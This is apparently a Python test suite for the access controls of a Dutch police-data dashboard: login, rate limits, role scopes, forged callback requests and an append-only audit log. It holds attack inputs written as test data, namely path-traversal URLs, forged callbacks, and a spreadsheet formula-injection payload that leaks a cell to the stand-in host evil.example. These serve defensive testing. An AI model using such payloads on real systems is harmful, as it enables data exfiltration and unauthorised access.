"""Access: login in front of Dash, rate limits, sessions, scopes per role, forged callback
requests, and the protocol log — all against a real gunicorn server on the demo database."""
from __future__ import annotations

import http.client
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
from playwright.sync_api import expect

from data.accounts import Profile, User
from layouts.admin import PRODUCTS
from data.scope import DENY, resolve_scope
from data.segments import connect as connect_db
from data.state import StateDB
from data.tokens import create_token

from .conftest import ROOT, LiveServer, http_login, login, pick, state_rows

OTHER = "GMD002"  # a demo gemeente that the demo 'burgemeester' (GMD001) must never see


def _name(db, code):
    con = connect_db(db)
    try:
        return con.execute("SELECT name FROM areas WHERE code = ?", [code]).fetchall()[0][0]
    finally:
        con.close()


# -- unauthenticated ----------------------------------------------------------------------------

@pytest.mark.parametrize("method,path", [
    ("GET", "/_dash-layout"), ("GET", "/_dash-dependencies"), ("POST", "/_dash-update-component"),
    ("GET", "/_dash-component-suites/dash/deps/polyfill@7.v4_4_1m1.min.js"),
])
def test_unauthenticated_dash_endpoints_get_401(demo_server, method, path):
    response = requests.request(method, demo_server.url + path, json={}, allow_redirects=False)
    assert response.status_code == 401


@pytest.mark.parametrize("path", ["/", "/kaart", "/beheer", "/mijn-log.csv", "/beheer/protocol.csv"])
def test_unauthenticated_pages_redirect_to_login(demo_server, path):
    response = requests.get(demo_server.url + path, allow_redirects=False)
    assert response.status_code == 302
    assert "/login?next=" + path in response.headers["Location"]


def _raw_get(server, path: str):
    """GET ``path`` exactly as written (requests and urllib3 would resolve ``..`` first)."""
    con = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        con.request("GET", path)
        response = con.getresponse()
        return response.status, response.getheader("Location") or "", response.read()
    finally:
        con.close()


@pytest.mark.parametrize("path", ["/loginx", "/login-x", "/login/../", "/login/../kaart",
                                  "/logoutx", "/logout/../beheer", "/_favicon.icox", "/_healthx",
                                  "/assets/../kaart", "/assets/../_dash-layout", "/_dash-layoutx"])
def test_near_prefixes_of_open_paths_are_not_public(demo_server, path):
    """Only the login page, logout and the static files are open, not every path that starts
    with their names: pages redirect to the login, Dash endpoints answer 401. (Fails until
    dashboard/auth.py matches open paths exactly.)"""
    status, location, body = _raw_get(demo_server, path)
    assert status != 200 and b"_dash-config" not in body, (path, status)
    if path.startswith("/_dash-"):
        assert status == 401, (path, status)
    elif path.startswith("/assets/"):  # the asset route itself may refuse the path (404)
        assert status in (302, 401, 404), (path, status)
    else:
        assert status == 302 and location.startswith("/login?"), (path, status, location)


def test_login_page_is_dutch_and_has_csrf(demo_server):
    page = requests.get(demo_server.url + "/login").text
    assert "Inloggen" in page and "Wachtwoord" in page and 'name="csrf_token"' in page


def test_login_without_csrf_token_is_refused(demo_server):
    response = requests.post(demo_server.url + "/login", allow_redirects=False,
                             data={"name": "analist", "password": "demo-analist"})
    assert response.status_code == 400


def test_session_cookie_is_httponly_and_samesite_lax(demo_server):
    session = http_login(demo_server, "analist")
    cookie = next(c for c in session.cookies if c.name == "session")
    assert cookie.has_nonstandard_attr("HttpOnly")
    assert cookie.get_nonstandard_attr("SameSite") == "Lax"


def test_open_redirect_after_login_is_refused(demo_server):
    session = requests.Session()
    form = session.get(demo_server.url + "/login").text
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', form).group(1)
    response = session.post(demo_server.url + "/login?next=https://example.org/x",
                            allow_redirects=False,
                            data={"name": "analist", "password": "demo-analist", "csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"] == "/"


# -- a server of its own: rate limits, idle timeout, restart ------------------------------------

@pytest.fixture(scope="module")
def strict_server(demo_db, tmp_path_factory):
    state = tmp_path_factory.mktemp("strict") / "appstate.sqlite"
    server = LiveServer(demo_db, env={"DASHBOARD_STATE_DB": str(state),
                                      "DASHBOARD_IDLE_MINUTES": "0.05"})
    server.state = state
    yield server
    server.stop()


def _wrong_logins(server, name, times):
    session = requests.Session()
    statuses = []
    for _ in range(times):
        form = session.get(server.url + "/login").text
        token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', form).group(1)
        statuses.append(session.post(server.url + "/login", allow_redirects=False, data={
            "name": name, "password": "wrong-password", "csrf_token": token}).status_code)
    return session, statuses


def test_twenty_wrong_passwords_get_429_and_lock_the_account(strict_server):
    session, statuses = _wrong_logins(strict_server, "adviseur", 20)
    assert statuses[0] == 401
    assert statuses[-1] == 429 and statuses.count(429) >= 5, statuses
    with pytest.raises(AssertionError):  # the right password is refused too while locked
        http_login(strict_server, "adviseur")
    http_login(strict_server, "analist")  # another account from the same address still works


def test_idle_session_ends(strict_server):
    session = http_login(strict_server, "analist")
    assert session.get(strict_server.url + "/_dash-layout").status_code == 200
    time.sleep(4)  # DASHBOARD_IDLE_MINUTES=0.05 -> 3 s
    assert session.get(strict_server.url + "/_dash-layout").status_code == 401


# -- scope per role -----------------------------------------------------------------------------

def _demo_con(demo_db):
    return connect_db(demo_db)


def test_scope_per_role(demo_db):
    con = _demo_con(demo_db)
    gemeenten = {r[0] for r in con.execute("SELECT code FROM areas WHERE level='gemeente'").fetchall()}
    team, members = con.execute("SELECT org_code, list(gm_code) FROM org_gemeenten g JOIN org_units"
                                " u ON u.code = g.org_code WHERE u.kind = 'basisteam'"
                                " GROUP BY 1 ORDER BY 1").fetchall()[0]
    profiles = {"GMD001": Profile("GMD001", detail=2)}
    profile_for = lambda code: profiles.get(code, Profile(code))  # noqa: E731

    def scope(user):
        return resolve_scope(user, con=con, profile_for=profile_for)

    assert scope(User("a", "analist", eenheden=("REDL",))).gemeenten == gemeenten
    assert scope(User("a", "analist", eenheden=("REDL",))).detail == 3
    assert scope(User("t", "teamchef", gemeenten=(team,))).gemeenten == set(members)
    mayor = scope(User("b", "burgemeester", gemeenten=("GMD001",)))
    assert (mayor.gemeenten, mayor.detail) == ({"GMD001"}, 2)
    both = scope(User("b", "adviseur", gemeenten=("GMD001", "GMD002")))
    assert both.detail == 1  # the most restrictive profile wins
    assert scope(User("x", "beheerder")) == DENY
    assert scope(User("x", "onbekend", gemeenten=("GMD001",))) == DENY
    assert scope(User("x", "burgemeester", gemeenten=("GM9999",))) == DENY
    assert scope(None) == DENY
    con.close()


# -- in the browser -----------------------------------------------------------------------------

@pytest.mark.browser
@pytest.mark.parametrize("user,own", [("burgemeester", "GMD001"), ("burgemeester2", "GMD002")])
def test_mayor_sees_only_own_gemeente(page, demo_server, demo_db, user, own):
    login(page, demo_server, user)
    rows = page.locator(".gemeente-table tbody tr")
    expect(rows).to_have_count(1, timeout=20_000)
    assert rows.first.get_attribute("data-code") == own
    expect(page.locator("#overview-subtitle")).to_contain_text(_name(demo_db, own))
    con = _demo_con(demo_db)
    newest = con.execute("SELECT date_trunc('month', max(occurred_date))::DATE FROM incidents").fetchall()[0][0]
    start = newest.replace(year=newest.year - 1)
    expected = con.execute(
        "SELECT count(*) FROM incidents WHERE gm_code = ? AND occurred_date >= ? AND occurred_date < ?"
        " AND type_code IN (SELECT type_code FROM type_groups WHERE group_code = 'alle_misdrijven')",
        [own, start, newest]).fetchall()[0][0]
    con.close()
    value = page.locator(".key-figure-value[data-group='alle_misdrijven']")
    assert int(value.get_attribute("data-value")) == expected


@pytest.mark.browser
def test_beheer_page_only_for_beheerder_and_profile_change_is_logged(page, demo_server, demo_db):
    login(page, demo_server, "burgemeester")
    page.goto(demo_server.url + "/beheer")
    expect(page.locator("#page")).to_contain_text("Geen toegang", timeout=20_000)
    page.goto(demo_server.url + "/logout")
    login(page, demo_server, "beheerder")
    page.goto(demo_server.url + "/beheer")
    # loaded: the default's text, or who changed it last (other tests change profiles)
    expect(page.locator("#profile-message")).to_contain_text(
        re.compile("profiel|laatst gewijzigd", re.IGNORECASE), timeout=20_000)
    page.locator("label", has_text="3 · + adres").click()
    pick(page, "#profile-vaststellen", "Gebiedsscan")  # released by the police first
    page.keyboard.press("Escape")
    page.click("#profile-save")
    expect(page.locator("#profile-message")).to_contain_text("opgeslagen", timeout=20_000)
    rows = state_rows(demo_db, "SELECT filters FROM protocol_log WHERE view = 'beheer/profiel'"
                                " ORDER BY id DESC LIMIT 1")
    change = json.loads(rows[0][0])
    assert change["wijzigingen"]["detail"]["nieuw"] == 3
    assert change["wijzigingen"]["vaststellen"]["nieuw"] == ["gebiedsscan"]
    page.reload()  # the form shows what is stored
    expect(page.locator("#profile-vaststellen")).to_contain_text("Gebiedsscan", timeout=20_000)
    # Restore the default profile for the other tests.
    subprocess.run([sys.executable, "-m", "dashboard", "--db", str(demo_db), "profiles", "set",
                    change["gemeente"], "--detail", "1", "--automatisch", "gebiedsscan"],
                   cwd=ROOT, check=True)


# -- forged callback requests and the protocol log ----------------------------------------------

def _callbacks(session, server):
    return session.get(server.url + "/_dash-dependencies").json()


def _forge(spec, value, values: dict | None = None):
    """A callback request as the browser sends it, with every input and state value forged
    (``values``: particular values by "id.property", the rest get ``value``)."""
    def entry(dep):
        item = {"id": dep["id"], "property": dep["property"],
                "value": (values or {}).get(f"{dep['id']}.{dep['property']}", value)}
        if isinstance(dep["id"], str) and dep["id"].startswith("{"):
            item["id"] = json.loads(dep["id"])
        return item
    outputs = []
    for part in spec["output"].strip(".").split("..."):
        component, prop = part.rsplit(".", 1)
        if component.startswith("{"):  # a pattern-matching (ALL) output: list every match
            pattern = json.loads(component)
            outputs.append([{"id": {**pattern, "product": key}, "property": prop}
                            for key in PRODUCTS])
        else:
            outputs.append({"id": component, "property": prop})
    return {"output": spec["output"], "outputs": outputs if len(outputs) > 1 else outputs[0],
            "inputs": [entry(d) for d in spec["inputs"]],
            "state": [entry(d) for d in spec["state"]], "changedPropIds": []}


@pytest.fixture(scope="module")
def data_views(demo_db) -> dict[str, str]:
    """callbacks.guard.DATA_VIEWS (output -> view). The data views are known once the app is
    built: build one in a separate process (an in-process app would hold the demo file open
    with its own DuckDB settings)."""
    script = ("import json; from dashboard import create_app; from callbacks.guard import DATA_VIEWS;"
              f"create_app({{'db': {str(demo_db)!r}, 'state_db': {str(demo_db.parent / 'views.sqlite')!r}}});"
              "print(json.dumps(DATA_VIEWS))")
    return json.loads(subprocess.run([sys.executable, "-c", script], cwd=ROOT, check=True,
                                     capture_output=True, text=True).stdout)


#: Other gemeenten' codes in every shape a control could send, and values no control sends:
#: nested lists, a dict, a 60 kB string (ten of them stay under the body limit), a number where a date or code is expected, a bool.
FORGED_CODES = (OTHER, [OTHER], {"gemeente": OTHER}, [OTHER, "GMD003", "GMD004"])
#: ... and 10 ** 25, more than SQLite's INTEGER holds (token, concept and product ids gave an
#: OverflowError: a 500).
MALFORMED = ([["GMD001"]], {"a": {"b": [1]}}, "x" * 60_000, 20240101, True, [None, {}],
             10 ** 25)


def _forge_everything(server, user: str, values) -> list[tuple[dict, object, requests.Response]]:
    session = http_login(server, user)
    return [(spec, value, session.post(server.url + "/_dash-update-component",
                                       json=_forge(spec, value)))
            for spec in _callbacks(session, server) for value in values]


def test_forged_callbacks_never_crash_nor_leak(demo_server, demo_db, data_views):
    """Every registered callback, forged by a detail-1 mayor and by an analist (and by the
    beheerder, who may see no police data) with other gemeenten' codes and malformed values:
    no answer is a server error, the mayor gets nothing of another gemeente, and every
    refusal of a malformed value is in the protocol log with the input it names."""
    con = _demo_con(demo_db)
    others = con.execute("SELECT code, name FROM areas WHERE level = 'gemeente'"
                         " AND code <> 'GMD001'").fetchall()
    con.close()
    first = state_rows(demo_db, "SELECT coalesce(max(id), 0) FROM protocol_log")[0][0]
    plan = [("burgemeester", FORGED_CODES + MALFORMED), ("analist", MALFORMED),
            ("beheerder", MALFORMED)]
    with ThreadPoolExecutor(len(plan)) as pool:
        answers = dict(zip([u for u, _ in plan], pool.map(
            lambda p: _forge_everything(demo_server, *p), plan)))
    outputs = {spec["output"].strip(".").split("...")[0] for spec, _, _ in answers["analist"]}
    assert set(data_views) <= outputs, "every data view is a registered callback"
    for user, results in answers.items():
        assert len(results) >= 25 * len(dict(plan)[user])
        for spec, value, response in results:
            where = (user, spec["output"][:60], json.dumps(value)[:40])
            if spec.get("clientside_function"):  # runs in the browser; the server has none
                assert response.status_code == 400, where
                continue
            assert response.status_code in (200, 204), (*where, response.status_code)
            if user != "burgemeester" or "own-log" in spec["output"]:
                continue  # (the own log echoes the forged inputs that were refused)
            for code, name in others:
                assert code not in response.text and name not in response.text, where
    refused = state_rows(demo_db, "SELECT view, detail FROM protocol_log WHERE id > ? AND"
                                  " detail LIKE 'malformed input%'", (first,))
    assert refused, "the guard's net for malformed values was never exercised"
    inputs = {f"{d['id']}.{d['property']}" for spec, _, _ in answers["analist"]
              for d in spec["inputs"] + spec["state"]}
    for view, detail in refused:
        assert view in data_views.values()
        assert any(name in detail for name in inputs), detail


def test_malformed_value_gets_a_refusal_and_a_log_row_naming_it(demo_server, demo_db):
    """A value the page never sends (a dict where the protocol filter expects text) gets the
    short Dutch refusal, and the log row names the input."""
    session = http_login(demo_server, "beheerder")
    specs = {s["output"].strip(".").split("...")[0]: s for s in _callbacks(session, demo_server)}
    response = session.post(demo_server.url + "/_dash-update-component", json=_forge(
        specs["log-count.children"], None, {"log-view.value": {"view": ["x"]}}))
    assert response.status_code == 200 and "Ongeldig verzoek" in response.text
    assert "log-grid" not in response.text  # no rows, only the refusal
    last = state_rows(demo_db, "SELECT user, view, outcome, detail FROM protocol_log"
                               " ORDER BY id DESC LIMIT 1")[0]
    assert last[:3] == ("beheerder", "beheer/protocol", "refused")
    assert last[3].startswith("malformed input") and "log-view.value=dict" in last[3]


#: Data views that serve a detail-1 mayor police data on the page's first requests. The kaart
#: views get the area and filters that kaart/navigatie answered, as in the browser.
MAYOR_DATA = {"overzicht", "trends", "trends/woninginbraak", "driehoek", "driehoek/presentatie",
              "kaart/waarden", "kaart/export"}


def test_every_data_view_serves_a_mayor_and_logs_one_row(demo_server, demo_db, data_views):
    session = http_login(demo_server, "burgemeester")
    specs = {s["output"].strip(".").split("...")[0]: s for s in _callbacks(session, demo_server)}
    known = {"kaart-csv.n_clicks": 1}  # the CSV button clicked once
    last_id = "SELECT coalesce(max(id), 0) FROM protocol_log"
    served = set()
    for output, view in data_views.items():
        before = state_rows(demo_db, last_id)[0][0]
        response = session.post(demo_server.url + "/_dash-update-component",
                                json=_forge(specs[output], None, known))
        assert response.status_code in (200, 204), (view, response.text[:300])
        rows = state_rows(demo_db, "SELECT view, rows, outcome FROM protocol_log WHERE id > ?",
                          (before,))
        assert [r[0] for r in rows] == [view], view
        if response.status_code == 200:  # the answers feed the next views, as on the page
            for component, props in response.json()["response"].items():
                known.update({f"{component}.{p}": v for p, v in props.items()})
        if rows[0][2] == "ok" and rows[0][1] > 0:
            assert response.status_code == 200, view
            served.add(view)
        if view in MAYOR_DATA:
            assert rows[0][2] == "ok" and rows[0][1] > 0, (view, rows)
    assert MAYOR_DATA <= served


@pytest.fixture(scope="module")
def unloggable(demo_db, tmp_path_factory):
    """A server on a copy of the demo folder (database and state) whose protocol log refuses
    every new row once the test adds the trigger (tests run as root: chmod stops nothing)."""
    folder = tmp_path_factory.mktemp("unloggable")
    shutil.copytree(demo_db.parent, folder, symlinks=True, dirs_exist_ok=True,
                    ignore=shutil.ignore_patterns("*.sqlite*", "products", "*.log", "*.lock"))
    source, target = (sqlite3.connect(demo_db.parent / "appstate.sqlite"),
                      sqlite3.connect(folder / "appstate.sqlite"))
    source.backup(target)
    source.close()
    target.close()
    server = LiveServer(folder / demo_db.name, workers=1)
    server.state = folder / "appstate.sqlite"
    yield server
    server.stop()


def test_no_data_leaves_when_the_log_row_cannot_be_written(unloggable, demo_db):
    server = unloggable
    session = http_login(server, "analist")
    specs = {s["output"].strip(".").split("...")[0]: s for s in _callbacks(session, server)}
    token = create_token(StateDB(server.state), "analist", label="test", by="analist")[1]
    con = _demo_con(demo_db)
    newest = con.execute("SELECT max(occurred_date) FROM incidents").fetchall()[0][0]
    con.close()
    export = {"from": newest.isoformat(), "to": newest.isoformat(), "columns": "id,pleegdatum"}

    def requests_with_data():
        return (session.post(server.url + "/_dash-update-component",
                             json=_forge(specs["overview-subtitle.children"], None)),
                requests.get(server.url + "/api/v1/counts", timeout=60,
                             headers={"Authorization": f"Bearer {token}"}),
                session.get(server.url + "/incidenten/export.csv", params=export))

    callback, api, csv_export = requests_with_data()  # with a working log: the data
    assert callback.status_code == 200 and "key-figure-value" in callback.text
    assert api.status_code == 200 and api.json()["rows"]
    assert csv_export.status_code == 200 and "Registratienummer" in csv_export.text
    state = sqlite3.connect(server.state)
    state.execute("CREATE TRIGGER refuse_log BEFORE INSERT ON protocol_log"
                  " BEGIN SELECT RAISE(ABORT, 'protocol log unwritable'); END")
    state.commit()
    state.close()
    callback, api, csv_export = requests_with_data()
    assert callback.status_code == 500 and "key-figure" not in callback.text
    assert api.status_code == 500 and '"rows"' not in api.text
    assert csv_export.status_code == 500 and "Registratienummer" not in csv_export.text
    assert requests.get(server.url + "/login").status_code == 200  # the server stays up


def test_every_data_callback_and_download_logs_exactly_one_row(demo_server, demo_db,
                                                              data_views):
    """As the beheerder, who may see no police data: every view still logs its one row."""
    DATA_VIEWS = data_views
    session = http_login(demo_server, "beheerder")
    specs = {s["output"].strip(".").split("...")[0]: s for s in _callbacks(session, demo_server)}
    assert set(DATA_VIEWS) <= set(specs), "every data view is a registered callback"
    last_id = "SELECT coalesce(max(id), 0) FROM protocol_log"
    for output, view in DATA_VIEWS.items():
        before = state_rows(demo_db, last_id)[0][0]
        response = session.post(demo_server.url + "/_dash-update-component",
                                json=_forge(specs[output], None))
        assert response.status_code == 200, (view, response.text[:300])
        rows = state_rows(demo_db, "SELECT view FROM protocol_log WHERE id > ?", (before,))
        assert [r[0] for r in rows] == [view], view
    for path, view in [("/mijn-log.csv", "mijn-log/export"),
                       ("/beheer/protocol.csv", "beheer/protocol-export")]:
        before = state_rows(demo_db)[0][0]
        response = session.get(demo_server.url + path)
        assert response.status_code == 200 and response.text.startswith("\ufeffNr.;Tijd;Gebruiker")
        assert state_rows(demo_db)[0][0] == before + 1
        assert state_rows(demo_db, "SELECT view FROM protocol_log ORDER BY id DESC LIMIT 1")[0][0] == view


def test_the_log_downloads_hold_no_formula_from_what_users_typed(demo_server, demo_db):
    """An API client chooses the name of a parameter it sends; the refusal is logged with it,
    and the beheerder opens the log's CSV in a spreadsheet: no cell may start a formula (as
    in every export)."""
    import csv
    import io

    csv.field_size_limit(1 << 24)  # other tests log forged values of 60 kB

    name = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
    state = StateDB(demo_db.parent / "appstate.sqlite")
    token = create_token(state, "analist", label="csv", by="analist")[1]
    answer = requests.get(demo_server.url + "/api/v1/incidents", params={name: "1", "@x": "2"},
                          headers={"Authorization": f"Bearer {token}"}, timeout=30)
    assert answer.status_code == 400
    for user, path in [("beheerder", "/beheer/protocol.csv"), ("analist", "/mijn-log.csv")]:
        response = http_login(demo_server, user).get(demo_server.url + path)
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        cells = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff")),
                                         delimiter=";") for c in row]
        assert any("hyperlink" in c.lower() for c in cells), (user, "the row is there")
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], user


def test_refused_request_is_logged_with_a_dutch_message(demo_server, demo_db):
    session = http_login(demo_server, "burgemeester")
    specs = {s["output"].strip(".").split("...")[0]: s for s in _callbacks(session, demo_server)}
    response = session.post(demo_server.url + "/_dash-update-component",
                            json=_forge(specs["log-count.children"], None))
    assert "geen toegang" in response.text.lower()
    last = state_rows(demo_db, "SELECT user, view, outcome FROM protocol_log ORDER BY id DESC LIMIT 1")
    assert last == [("burgemeester", "beheer/protocol", "refused")]


def test_protocol_log_is_append_only_and_survives_a_killed_server(strict_server):
    session = http_login(strict_server, "analist")
    specs = {s["output"].strip(".").split("...")[0]: s for s in _callbacks(session, strict_server)}
    session.post(strict_server.url + "/_dash-update-component",
                 json=_forge(specs["overview-subtitle.children"], None)).raise_for_status()
    con = sqlite3.connect(strict_server.state)
    count = con.execute("SELECT count(*) FROM protocol_log").fetchall()[0][0]
    assert count >= 1
    for statement in ("UPDATE protocol_log SET user = 'x'", "DELETE FROM protocol_log"):
        with pytest.raises(sqlite3.DatabaseError, match="append-only"):
            con.execute(statement)
    con.close()
    strict_server.proc.send_signal(signal.SIGKILL)
    strict_server.proc.wait(10)
    restarted = LiveServer(strict_server.db, env={"DASHBOARD_STATE_DB": str(strict_server.state)})
    try:
        http_login(restarted, "analist")  # the restarted server works on the same state
        out = subprocess.run([sys.executable, "-m", "dashboard", "--db", str(strict_server.db),
                              "log", "export", "--json"], cwd=ROOT, capture_output=True, text=True,
                             env={**os.environ, "DASHBOARD_STATE_DB": str(strict_server.state)},
                             check=True).stdout
        rows = [json.loads(line) for line in out.splitlines()]
        assert len(rows) == count and rows[-1]["view"] == "overzicht"
        assert rows[-1]["user"] == "analist" and rows[-1]["outcome"] == "ok"
    finally:
        restarted.stop()

